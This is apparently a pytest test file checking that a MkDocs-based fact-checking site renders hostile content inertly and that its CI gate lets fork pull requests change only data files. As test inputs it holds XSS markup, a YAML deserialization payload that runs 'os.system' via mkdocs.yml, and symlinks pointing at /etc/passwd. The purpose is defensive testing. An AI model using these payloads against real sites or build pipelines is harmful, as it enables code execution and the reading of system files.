        for cell in cells.values():
            assert not cell.startswith(FORMULA_START), cell


def test_case_66_markup_in_the_article_text_is_shown_as_text(site: Path) -> None:
    seed_path = site / "seeds/daily-2024-01-01-budget.txt"
    seed_path.write_text(
        seed_path.read_text() + "<script>window.__pwned=1</script><img src=x onerror=x>\n"
    )
    _, renderer = render(site)
    html = renderer.pages()["articles/daily-2024-01-01-budget"].html
    assert hostile.content_problems(html, claim_page=False) == []
    assert "<script>window.__pwned=1</script><img src=x onerror=x>" in hostile.text_of(html)


# -- a real strict build --------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("hostile") / "site"
    out = root.parent / "out"
    result = hostile.build_site(root, out)
    assert result.returncode == 0, result.stdout + result.stderr
    return root, out


@pytest.mark.site
def test_every_built_page_is_inert(hostile_site: tuple[Path, Path]) -> None:
    root, out = hostile_site
    _, renderer = render(root)
    titles = renderer.pages()
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > len(hostile.PAYLOADS) * 4
    for path in pages:
        relative = path.relative_to(out).as_posix()
        text = path.read_text(encoding="utf-8")
        assert hostile.page_problems(text, relative) == [], relative
        key = relative.removesuffix("/index.html").removesuffix("index.html") or "index"
        key = key if key in titles else f"{key}/index"
        if key in titles:
            tree = hostile.parse_document(text)
            assert tree.find(".//title").text == f"{titles[key].title} - Fixture desk", relative
            description = tree.find(".//meta[@name='description']").get("content")
            assert description == titles[key].description, relative


@pytest.mark.site
def test_no_payload_reaches_the_built_site_as_markup(hostile_site: tuple[Path, Path]) -> None:
    _, out = hostile_site
    raw = [p for p in hostile.PAYLOADS.values() if "<" in p and len(p) > 12]
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        data = path.read_bytes()
        assert hostile.CANARY.encode() not in data, path  # case 40: no file was included
        if path.suffix in (".html", ".xml"):
            text = data.decode("utf-8")
            for payload in raw:
                assert payload not in text, (path, payload)
            for tag in ("<textarea", "<plaintext", "<iframe", "<object", "<embed", "<base "):
                assert tag not in text.lower(), (path, tag)


@pytest.mark.site
def test_search_index_and_feed_hold_only_escaped_text(hostile_site: tuple[Path, Path]) -> None:
    _, out = hostile_site
    index = json.loads((out / "search/search_index.json").read_text(encoding="utf-8"))
    kept = "|".join(("p", "code", "pre", "li", "ol", "ul", "sub", "sup"))
    tag = re.compile(rf"<(?!/?(?:{kept})>)")
    for doc in index["docs"]:
        for field in ("title", "text"):
            assert not tag.search(doc[field]), (doc["location"], doc[field][:200])
    feed = ET.parse(out / "data/feed.xml").getroot()
    titles = {e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")}
    assert {f"Corrected: {p}" for p in hostile.PAYLOADS.values()} <= titles
    rows = list(csv.reader(io.StringIO((out / "data/claims.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(hostile.PAYLOADS) + 4


@pytest.mark.site
def test_every_inline_script_is_the_themes(hostile_site: tuple[Path, Path]) -> None:
    """The CSP hook refuses foreign inline scripts; the built pages prove none got in."""
    _, out = hostile_site
    for path in sorted(out.rglob("*.html")):
        tree = hostile.parse_document(path.read_text(encoding="utf-8"))
        for script in tree.iter("script"):
            if script.get("src") or script.get("type") in (
                "application/json",
                "application/ld+json",
            ):
                continue
            assert (script.text or "").startswith(csp.THEME_SCRIPTS), path


@pytest.mark.site
@pytest.mark.parametrize(
    ("hand_written", "writes"),
    [
        ("claims/parks-spending.md", "claims/parks-spending/index.html"),
        ("claims/parks-spending/index.md", "claims/parks-spending/index.html"),
    ],
)
def test_case_61_generated_page_colliding_with_a_hand_written_one_fails(
    tmp_path: Path, hand_written: str, writes: str
) -> None:
    root = tmp_path / "site"
    shutil.copytree(FIXTURE_SITE, root)
    write(root / "docs" / hand_written, "# Hand-written\n")
    result = mkdocs_build(root, tmp_path / "out")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert (
        "generated page claims/parks-spending.md (from facts/claims/parks-spending.yaml) would "
        f"collide with {hand_written}, which writes the same {writes}"
    ) in result.stderr


# -- the checks themselves bite ---------------------------------------------------------

UNSAFE_WITHOUT_SANITIZER = [
    "30-script", "30-script-src", "31-details-ontoggle", "32-iframe-srcdoc", "32-object-embed",
    "33-attr-list-image", "34-base", "35-meta-refresh", "36-form", "37-style-element",
    "37-style-attribute", "38-textarea", "38-title", "38-plaintext", "39-id-name",
    "42-mxss-math", "42-mxss-noscript", "43-title-sink", "44-attribute-sink", "46-json-ld",
    "49-javascript", "49-javascript-case", "49-javascript-entity", "50-data", "50-vbscript-file",
    "51-protocol-relative",
]  # fmt: skip


@pytest.mark.parametrize("case", UNSAFE_WITHOUT_SANITIZER)
def test_the_checks_flag_what_plain_markdown_would_emit(case: str) -> None:
    """Python-Markdown with raw HTML and attr_list (MkDocs' pipeline) is what we avoid."""
    unsafe = markdown.markdown(hostile.PAYLOADS[case], extensions=["attr_list"])
    assert hostile.content_problems(unsafe, claim_page=False) != []


@pytest.mark.site
def test_the_page_check_flags_an_injected_script(hostile_site: tuple[Path, Path]) -> None:
    _, out = hostile_site
    page = (out / "claims/parks-spending/index.html").read_text(encoding="utf-8")
    assert hostile.page_problems(page, "claims/parks-spending/index.html") == []
    for injected in ("<script>x()</script>", "<img src=x onerror=x()>", "<textarea>"):
        broken = page.replace('<h1 id="claim">', f'<h1 id="claim">{injected}', 1)
        assert hostile.page_problems(broken, "claims/parks-spending/index.html") != [], injected


# -- Y2: pull requests from forks may touch records only --------------------------------

PR_WORKFLOW = Path(__file__).parent.parent / ".github" / "workflows" / "pr.yml"


def _gate_script() -> str:
    workflow = yaml.safe_load(PR_WORKFLOW.read_text(encoding="utf-8"))
    steps = workflow["jobs"]["check"]["steps"]
    step = next(s for s in steps if s.get("name", "").startswith("Forks may change only"))
    return step["run"].replace("${{ github.base_ref }}", "main")


def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)


def _pull_request(tmp_path: Path, change: Callable[[Path], None]) -> subprocess.CompletedProcess:
    """Run the workflow's gate on a repository whose PR branch makes `change`."""
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURE_SITE, repo)
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.org", "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "base")
    _git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")
    change(repo)
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "pr")
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", _gate_script()],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_pr_workflow_runs_fork_code_without_secrets() -> None:
    workflow = yaml.safe_load(PR_WORKFLOW.read_text(encoding="utf-8"))
    assert set(workflow[True]) == {"pull_request"}  # `on:` reads as True in YAML 1.1
    assert workflow["permissions"] == {"contents": "read"}


def _edit_record(repo: Path) -> None:
    path = repo / "facts/claims/parks-spending.yaml"
    path.write_text(path.read_text().replace("Gives 40%.", "Gives 40 percent."))


def _edit_config(repo: Path) -> None:
    (repo / "mkdocs.yml").write_text(
        (repo / "mkdocs.yml").read_text() + "extra:\n  x: !!python/object/apply:os.system [id]\n"
    )


def _add_symlink(repo: Path) -> None:
    (repo / "facts/sources/leak.yaml").symlink_to("/etc/passwd")


def _record_becomes_symlink(repo: Path) -> None:
    path = repo / "facts/sources/parks-report.yaml"
    path.unlink()
    path.symlink_to("/etc/passwd")


@pytest.mark.parametrize(
    ("change", "passes"),
    [
        (_edit_record, True),
        (_edit_config, False),
        (_add_symlink, False),
        (_record_becomes_symlink, False),
    ],
    ids=["record", "mkdocs.yml", "new-symlink", "record-becomes-symlink"],
)
def test_pr_gate_lets_forks_change_records_only(
    tmp_path: Path, change: Callable[[Path], None], passes: bool
) -> None:
    result = _pull_request(tmp_path, change)
    assert (result.returncode == 0) == passes, result.stdout + result.stderr
    if not passes:
        assert result.stdout.startswith(
            "::error::A pull request from a fork may only change files under facts/ and seeds/:"
        )
